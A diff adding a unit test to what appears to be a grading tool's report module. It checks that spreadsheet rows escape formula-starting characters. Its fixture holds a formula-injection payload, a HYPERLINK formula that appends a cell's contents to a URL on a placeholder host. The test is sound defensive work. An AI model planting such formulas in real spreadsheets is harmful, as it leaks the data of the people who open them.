@@ -35,6 +35,16 @@ def test_tamper_report_puts_what_the_grader_saw_first_and_escapes_names():
     assert report.tamper_markdown([]) == ["## Tamper report", "", "Nothing found."]
 
 
+def test_a_tamper_row_never_starts_a_spreadsheet_formula():
+    row = {"student": "s1", "kind": "reads files outside its folder", "line": None,
+           "detail": '=HYPERLINK("http://x.invalid/?"&A2,"y")'}
+    safe = report.spreadsheet_row(row)
+    assert safe["detail"] == "'" + row["detail"] and safe["kind"] == row["kind"] and safe["line"] is None
+    for start in ("+", "-", "@", "\t", "\r"):
+        assert report.spreadsheet_row({"detail": start + "1+1"})["detail"].startswith("'")
+    assert report.spreadsheet_row({"detail": "in the grader's kernel: =1"})["detail"] == "in the grader's kernel: =1"
+
+
 def test_check_counts_group_messages_that_differ_only_in_numbers():
     cells = [
         {"checks": [{"name": "shape", "share": "1/2", "passed": True},
